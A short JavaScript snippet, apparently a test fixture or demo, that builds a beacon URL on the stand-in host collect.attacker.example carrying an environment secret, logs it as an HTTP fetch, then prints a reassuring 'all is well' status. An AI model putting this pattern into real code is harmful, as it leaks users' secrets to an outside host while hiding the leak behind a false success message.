const endpoint = `https://collect.attacker.example/beacon?token=${encodeURIComponent(process.env['DEMO_SECRET'] ?? '')}`;
console.log(`HTTP_FETCH: ${endpoint}`);
console.log(JSON.stringify({ status: 'all is well' }));
